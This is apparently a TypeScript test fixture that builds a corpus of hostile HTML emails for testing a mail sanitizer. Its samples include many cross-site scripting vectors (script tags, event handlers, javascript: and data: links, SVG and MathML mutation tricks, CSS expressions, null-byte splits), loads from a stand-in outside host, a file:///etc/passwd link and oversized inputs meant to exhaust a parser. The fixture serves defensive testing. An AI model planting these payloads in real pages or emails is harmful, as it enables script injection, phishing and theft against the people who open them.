import { htmlMail, OUTSIDE, RUNS, type CorpusMail } from './corpus-mail.ts';

/** Scripts in every place that HTML has for them, and markup that changes its meaning when it is read twice. */
export const SCRIPT_MAILS: readonly CorpusMail[] = [
  htmlMail('script element', `<script>${RUNS}</script><script src="${OUTSIDE}/x.js"></script>`),
  htmlMail('script broken by tags', `<scr<script>ipt>${RUNS}</scr</script>ipt>`),
  htmlMail('script without end', `<script>${RUNS}`),
  htmlMail('script in capitals with blanks', `<ScRiPt\t/x>${RUNS}</sCrIpT\n>`),
  htmlMail(
    'event attributes',
    `<p onclick="${RUNS}" onmouseover=${RUNS}>a</p><img src=x onerror="${RUNS}"><body onload="${RUNS}"><details open ontoggle="${RUNS}">x</details><input autofocus onfocus="${RUNS}"><marquee onstart="${RUNS}">m</marquee>`,
  ),
  htmlMail('event attributes without blanks', `<img/src="x"/onerror="${RUNS}"><svg/onload="${RUNS}">`),
  htmlMail(
    'event attributes in broken quotes',
    `<img src="x" alt="\`><img src=x onerror=${RUNS}>"><p title='"onclick=${RUNS}'>x`,
  ),
  htmlMail(
    'javascript links',
    `<a href="javascript:${RUNS}">a</a><a href="JaVaScRiPt:${RUNS}">b</a><a href=" javascript:${RUNS}">c</a>`,
  ),
  htmlMail(
    'javascript links with entities and control characters',
    `<a href="java&#10;script:${RUNS}">a</a><a href="&#106;avascript:${RUNS}">b</a><a href="java&Tab;script&colon;${RUNS}">c</a><a href="\u0001javascript:${RUNS}">d</a><a href="java\u0000script:${RUNS}">e</a>`,
  ),
  htmlMail(
    'data and other links that run',
    `<a href="data:text/html,<script>${RUNS}</script>">a</a><a href="vbscript:${RUNS}">b</a><a href="blob:${OUTSIDE}/x">c</a><a href="file:///etc/passwd">d</a><a href="view-source:${OUTSIDE}">e</a><a href="//outside.example/x">f</a>`,
  ),
  htmlMail(
    'javascript pictures',
    `<img src="javascript:${RUNS}"><img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml,<svg onload='${RUNS}'/>">`,
  ),
  htmlMail(
    'svg with script',
    `<svg><script>${RUNS}</script><a xlink:href="javascript:${RUNS}"><text>x</text></a></svg>`,
  ),
  htmlMail(
    'svg animation of a link',
    `<svg><a><animate attributeName=href values="javascript:${RUNS}"/><text>x</text></a><set attributeName=onmouseover to="${RUNS}"/></svg>`,
  ),
  htmlMail(
    'svg use and foreign content',
    `<svg><use href="data:image/svg+xml,<svg id=x onload='${RUNS}'/>#x"/><foreignObject><iframe srcdoc="<script>${RUNS}</script>"></iframe></foreignObject></svg>`,
  ),
  htmlMail(
    'math',
    `<math href="javascript:${RUNS}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${RUNS}">y</maction></math>`,
  ),
  htmlMail(
    'math, table and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
  ),
  htmlMail('svg, style and comment', `<svg></p><style><a id="</style><img src=1 onerror=${RUNS}>">`),
  htmlMail(
    'form and math',
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUNS} src>">`,
  ),
  htmlMail('noscript', `<noscript><p title="</noscript><img src=x onerror=${RUNS}>"></noscript>`),
  htmlMail('template', `<template><script>${RUNS}</script><img src=x onerror="${RUNS}"></template>`),
  htmlMail(
    'comments',
    `<!--><img src=x onerror=${RUNS}>--><!-- --!><img src=x onerror=${RUNS}>--><!---><script>${RUNS}</script>-->`,
  ),
  htmlMail(
    'conditional comments',
    `<!--[if gte IE 4]><script>${RUNS}</script><![endif]--><![if !mso]><script>${RUNS}</script><![endif]>`,
  ),
  htmlMail(
    'cdata',
    `<![CDATA[<script>${RUNS}</script>]]><svg><![CDATA[</svg><img src=x onerror=${RUNS}>]]></svg>`,
  ),
  htmlMail(
    'textarea, title and xmp',
    `<textarea><img title="</textarea><img src=x onerror=${RUNS}>"></textarea><title><a title="</title><img src=x onerror=${RUNS}>"></title><xmp><p title="</xmp><img src=x onerror=${RUNS}>"></xmp>`,
  ),
  htmlMail('plaintext', `<p>x</p><plaintext><script>${RUNS}</script>`),
  htmlMail(
    'frames',
    `<iframe src="javascript:${RUNS}"></iframe><iframe srcdoc="<script>${RUNS}</script>"></iframe><frameset><frame src="javascript:${RUNS}"></frameset>`,
  ),
  htmlMail(
    'objects',
    `<object data="javascript:${RUNS}"></object><embed src="data:image/svg+xml,<svg onload='${RUNS}'/>"><applet code="x"></applet><portal src="${OUTSIDE}"></portal>`,
  ),
  htmlMail(
    'base and refresh',
    `<base href="javascript:/a/+${RUNS}//"><meta http-equiv="refresh" content="0;url=javascript:${RUNS}"><meta http-equiv="refresh" content="0;url=${OUTSIDE}/refresh">`,
  ),
  htmlMail(
    'forms',
    `<form action="javascript:${RUNS}" id=f><input name=password><button formaction="javascript:${RUNS}">Log in</button></form><button form=f>x</button><isindex action="javascript:${RUNS}">`,
  ),
  htmlMail(
    'names that clash',
    '<p id="root">x</p><a name="top">y</a><img name="body" src=x><form name="cookie"><input name="attributes"></form>',
  ),
  htmlMail(
    'style that runs',
    `<p style="width:expression(${RUNS});behavior:url(${OUTSIDE}/x.htc);-moz-binding:url(${OUTSIDE}/x.xml)">x</p><style>*{x:expression(${RUNS})}</style>`,
  ),
  htmlMail(
    'style that escapes',
    `<p style="w\\69dth:1px;background:\\75rl(${OUTSIDE}/x);color:red;}</style><script>${RUNS}</script>">x</p>`,
  ),
  htmlMail(
    'style over the page',
    `<div style="position:fixed;inset:0;z-index:9999;background:red">Log in</div><div style="margin:-9999px;transform:scale(99)">x</div>`,
  ),
  htmlMail(
    'null bytes',
    `<scr\0ipt>${RUNS}</scr\0ipt><img src=x one\0rror=${RUNS}><a href="java\0script:${RUNS}">x</a>`,
  ),
  htmlMail('lone surrogates', `<p title="\uD800">\uDFFF \uD83D</p><img alt="\uDC00" src=x onerror=${RUNS}>`),
  htmlMail(
    'processing instructions',
    `<?xml-stylesheet href="javascript:${RUNS}"?><?php ${RUNS} ?><!ENTITY x "<script>${RUNS}</script>">`,
  ),
  htmlMail('attributes without end', `<p title="x onmouseover=${RUNS}><script>${RUNS}</script>`),
  htmlMail(
    'select and option',
    `<select><option><style></option></select><img src=x onerror=${RUNS}></style></select>`,
  ),
  htmlMail(
    'tables that give up what is in them',
    `<table><script>${RUNS}</script><a href="javascript:${RUNS}"><tr><td>x</a><img src=x onerror=${RUNS}></table>`,
  ),
  htmlMail(
    "elements of one's own",
    `<x-script onclick="${RUNS}">x</x-script><slot onslotchange="${RUNS}"></slot><dialog open onclose="${RUNS}">d</dialog>`,
  ),
  htmlMail(
    'audio and video that run',
    `<video src=x onerror="${RUNS}"><source onerror="${RUNS}"></video><audio src=x onerror="${RUNS}"></audio>`,
  ),
  htmlMail(
    'srcset that runs',
    `<img srcset="x" onerror="${RUNS}"><picture><source srcset="javascript:${RUNS}"><img src=x onerror="${RUNS}"></picture>`,
  ),
  htmlMail(
    'import maps and modules',
    `<script type=importmap>{"imports":{"x":"${OUTSIDE}/x.js"}}</script><script type=module>import "${OUTSIDE}/x.js";${RUNS}</script><link rel=modulepreload href="${OUTSIDE}/x.js">`,
  ),
  htmlMail('a million entities', `<p>${'&lt;script&gt;'.repeat(20_000)}</p>`),
  htmlMail('elements without end', `${'<div>'.repeat(60_000)}<script>${RUNS}</script>`),
  htmlMail(
    'formatting that is made again and again',
    Array.from({ length: 400 }, (_, at) => `<font color="#${100_000 + at}"><p>`).join(''),
  ),
];
